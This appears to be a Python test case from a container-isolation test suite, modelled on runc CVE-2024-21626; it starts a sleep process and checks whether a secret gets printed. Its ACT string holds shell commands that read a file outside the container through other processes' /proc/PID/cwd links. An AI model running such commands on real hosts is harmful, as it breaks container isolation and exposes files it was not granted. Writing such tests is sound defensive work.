"""reads files through the working folder of another process"""

from evidence import secret_printed as succeeded

SHAPE = "runc CVE-2024-21626: a working folder outside of the container"
PROMISE = "P06"
ACT = "cat /proc/@PID@/cwd/../notes.txt; for p in /proc/[0-9]*; do cat $p/cwd/../notes.txt; done"


def prepare(host):
    host.facts["PID"] = host.start("sleep", "600").pid
